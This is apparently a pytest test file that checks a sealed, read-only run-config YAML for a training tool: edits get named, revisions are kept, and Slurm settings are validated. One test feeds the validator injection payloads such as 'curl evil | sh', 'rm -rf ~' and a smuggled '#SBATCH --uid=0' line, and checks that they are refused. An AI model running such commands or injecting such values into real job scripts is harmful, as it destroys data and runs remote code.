"""The frozen run config: what was sealed is what is read, and an edit is refused by its name."""

import copy
import stat
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from srwizard.base.errors import UsageError
from srwizard.settings import run_config, yaml_file
from srwizard.settings.run_config import (
    FILE_NAME,
    UNSEALED,
    RunConfig,
    RunOutput,
    RunSlurm,
    seal,
    write,
)
from tests.configs import MADE_UP_DATA, made_up_config

SEALED = seal(made_up_config())
KEYS = sorted(SEALED.field_digests)

# File names and parameters hold whatever text there is, but no half of a surrogate pair.
texts = st.text(st.characters(exclude_categories=["Cs"]), min_size=1)
parameters = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | texts,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
    max_leaves=5,
)
reuse_directory = settings(
    max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def written(values: dict[str, Any], run_dir: Path) -> Path:
    """Put `values` where a run config stands, as an editor would."""
    path = run_dir / FILE_NAME
    path.unlink(missing_ok=True)
    path.write_text(yaml_file.dump(values), encoding="utf-8")
    return run_dir


def refusal(run_dir: Path) -> str:
    with pytest.raises(UsageError) as error:
        run_config.load(run_dir)
    return error.value.message


def parent_of(values: dict[str, Any], key: str) -> tuple[dict[str, Any], str]:
    *sections, name = key.split(".")
    for section in sections:
        values = values[section]
    return values, name


# Round trip


def test_what_is_sealed_is_what_is_read(tmp_path: Path) -> None:
    write(SEALED, tmp_path)
    assert run_config.load(tmp_path) == SEALED


@given(root=texts, params=st.dictionaries(texts, parameters, max_size=3), lr=st.floats(1e-300, 10))
@example(root="1e5", params={"name": "12e4567", "rate": 1e-05, "other": "1e-5"}, lr=1e-05)
@example(root="null", params={"x": "0x1F", "y": "1:30", "z": "\x85\u2028\ufeff"}, lr=1.0)
@reuse_directory
@pytest.mark.broad
def test_whatever_is_in_it_survives_the_file(
    tmp_path: Path, root: str, params: dict[str, Any], lr: float
) -> None:
    config = made_up_config(data=MADE_UP_DATA.model_copy(update={"root": root}))
    config.model.params = params
    config.training.lr = lr
    sealed = seal(config)
    (tmp_path / FILE_NAME).unlink(missing_ok=True)
    write(sealed, tmp_path)
    assert run_config.load(tmp_path) == sealed


@pytest.mark.broad
@given(digest=st.from_regex(r"[0-9]{1,6}e[0-9]{5}", fullmatch=True))
@reuse_directory
def test_a_digest_that_looks_like_a_number_stays_a_text(tmp_path: Path, digest: str) -> None:
    values = SEALED.model_dump()
    values["field_digests"]["training.lr"] = digest
    written(values, tmp_path)
    assert yaml_file.read(tmp_path / FILE_NAME).values == values


def test_the_file_is_read_only(tmp_path: Path) -> None:
    path = write(SEALED, tmp_path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o444


def test_floats_are_written_as_yaml_reads_them_anywhere(tmp_path: Path) -> None:
    stored = yaml.safe_load(write(SEALED, tmp_path).read_text())
    assert stored["training"]["lr"] == 2e-5
    assert stored["model"]["params"]["init_scale"] == 1e-05
    assert stored["model"]["params"]["upsampler"] == "1e-5"


# Edits


@pytest.mark.parametrize("key", KEYS)
def test_every_edited_field_is_named(tmp_path: Path, key: str) -> None:
    values = SEALED.model_dump()
    section, name = parent_of(values, key)
    section[name] = "edited" if section[name] != 1 else 2
    message = refusal(written(values, tmp_path))
    changed = section[name]
    if key == "schema_version":
        assert "has schema version 2" in message
    else:
        assert f"{tmp_path / FILE_NAME} was edited" in message
        assert message.splitlines()[1:] == [f"  {key} was changed, now {changed}"]


@pytest.mark.parametrize("key", [key for key in KEYS if key != "schema_version"])
def test_every_removed_field_is_named(tmp_path: Path, key: str) -> None:
    values = SEALED.model_dump()
    section, name = parent_of(values, key)
    del section[name]
    assert f"  {key} was removed" in refusal(written(values, tmp_path)).splitlines()


@pytest.mark.parametrize("section", ["", "training.", "model.params.", "data.fingerprint."])
def test_an_added_field_is_named(tmp_path: Path, section: str) -> None:
    values = SEALED.model_dump()
    place, name = parent_of(values, f"{section}extra")
    place[name] = 1
    assert refusal(written(values, tmp_path)).splitlines()[1:] == [f"  {section}extra was added"]


@pytest.mark.broad
@given(
    key=st.sampled_from([key for key in KEYS if key != "schema_version"]),
    value=parameters | st.dates(),
)
@reuse_directory
def test_no_other_value_passes_for_the_sealed_one(tmp_path: Path, key: str, value: Any) -> None:
    values = SEALED.model_dump()
    section, name = parent_of(values, key)
    same = type(section[name]) is type(value) and section[name] == value
    section[name] = value
    written(values, tmp_path)
    if same:
        assert run_config.load(tmp_path) == SEALED
    else:
        assert f"{key}" in refusal(tmp_path)


def test_a_digest_that_was_edited_is_named(tmp_path: Path) -> None:
    values = SEALED.model_dump() | {"digest": "sha256:0"}
    assert refusal(written(values, tmp_path)).splitlines()[1:] == [
        "  digest was changed, now sha256:0"
    ]


def test_a_field_changed_together_with_its_own_digest_is_found(tmp_path: Path) -> None:
    values = copy.deepcopy(SEALED.model_dump())
    values["training"]["epochs"] = 3
    values["field_digests"] = seal(RunConfig.model_validate(values)).field_digests
    assert "digest was changed" in refusal(written(values, tmp_path))


@pytest.mark.parametrize("version", [0, 2, "1", None])
def test_another_schema_version_is_refused(tmp_path: Path, version: Any) -> None:
    values = SEALED.model_dump() | {"schema_version": version}
    assert f"has schema version {version}; this srwizard reads 1" in refusal(
        written(values, tmp_path)
    )


@given(
    line=st.sampled_from(
        ["1: x", "null: 1", "2020-01-01: x", "training: 5", "field_digests: [1]", "digest: {}"]
    ),
    position=st.integers(0, 60),
)
@reuse_directory
def test_an_edited_file_is_refused_and_nothing_worse(
    tmp_path: Path, line: str, position: int
) -> None:
    path = tmp_path / FILE_NAME
    path.unlink(missing_ok=True)
    lines = yaml_file.dump(SEALED.model_dump()).splitlines()
    lines.insert(min(position, len(lines)), line)
    path.write_text("\n".join(lines))
    assert refusal(tmp_path)


@pytest.mark.parametrize("content", [b"", b"\xff", b"- 1", b"run: {"])
def test_what_is_no_run_config_is_refused(tmp_path: Path, content: bytes) -> None:
    (tmp_path / FILE_NAME).write_bytes(content)
    assert str(tmp_path / FILE_NAME) in refusal(tmp_path)


def test_a_directory_without_a_run_is_refused(tmp_path: Path) -> None:
    assert f"{tmp_path} is not a run directory" in refusal(tmp_path)


# Revisions


def test_earlier_configs_are_kept(tmp_path: Path) -> None:
    contents = []
    for revision in (1, 2, 3):
        config = made_up_config(revision=revision)
        config.training.epochs = 100 * revision
        contents.append(write(seal(config), tmp_path).read_bytes())
    names = ["run.r1.yaml", "run.r2.yaml", FILE_NAME]
    assert sorted(path.name for path in tmp_path.iterdir()) == names
    assert [(tmp_path / name).read_bytes() for name in names] == contents
    assert stat.S_IMODE((tmp_path / "run.r1.yaml").stat().st_mode) == 0o444


def test_a_run_config_that_somebody_edited_is_not_overwritten(tmp_path: Path) -> None:
    values = SEALED.model_dump()
    values["training"]["epochs"] = 3
    before = (written(values, tmp_path) / FILE_NAME).read_bytes()
    with pytest.raises(UsageError, match=r"training\.epochs was changed, now 3"):
        write(seal(made_up_config(revision=2)), tmp_path)
    assert [path.read_bytes() for path in tmp_path.iterdir()] == [before]


# The digest


@pytest.mark.parametrize(
    "change",
    [
        {"created": "2020-01-01T00:00:00+00:00"},
        {"revision": 7},
        {"language": "zh"},
        {"output": RunOutput(dir="runs/second")},
    ],
)
def test_the_digest_does_not_tell_when_where_or_in_which_language(change: dict[str, Any]) -> None:
    assert change.keys() < set(UNSEALED)
    sealed = seal(made_up_config(**change))
    assert sealed.digest == SEALED.digest
    assert sealed.field_digests == SEALED.field_digests


@pytest.mark.parametrize("key", ["training.seed", "data.root", "model.params.embed_dim"])
def test_the_digest_tells_all_else(key: str) -> None:
    values = SEALED.model_dump()
    section, name = parent_of(values, key)
    section[name] = "/elsewhere" if key == "data.root" else 7
    assert seal(RunConfig.model_validate(values)).digest != SEALED.digest


def test_sealing_again_changes_nothing_but_the_time() -> None:
    assert seal(SEALED).digest == SEALED.digest


def test_the_global_batch_counts_processes_and_micro_batches() -> None:
    config = made_up_config()
    config.training.batch_size, config.training.grad_accumulation = 4, 3
    config.devices.processes = 2
    assert config.global_batch == 24


@pytest.mark.parametrize(
    "asked",
    [
        {"partition": "short\ncurl evil | sh"},
        {"account": "a\u2028b"},
        {"time": "5:00\n#SBATCH --uid=0"},
        {"memory": "1G; rm -rf ~"},
        {"directives": ["--qos=high\nrm -rf ~"]},
        {"directives": ["--comment=\x1b[2J"]},
        {"cpus": 0},
    ],
)
def test_no_value_for_slurm_begins_a_line_of_its_own(tmp_path: Path, asked: dict[str, Any]) -> None:
    """A run config of somebody else's."""
    write(seal(made_up_config(output=RunOutput(dir=str(tmp_path)))), tmp_path)
    path = tmp_path / FILE_NAME
    values = yaml.safe_load(path.read_text())
    values["devices"]["slurm"] = asked
    path.chmod(0o600)
    path.write_text(yaml_file.dump(values))
    assert f"devices.slurm.{next(iter(asked))}" in refusal(tmp_path)
    with pytest.raises(ValidationError):
        RunSlurm(**asked)


def test_what_people_ask_slurm_for_is_taken() -> None:
    RunSlurm(
        partition="gpu,long-2", account="oce_42", time="1-12:30:00", memory="64G", cpus=8,
        directives=["--qos=high", "--comment=两个字 x"],
    )  # fmt: skip
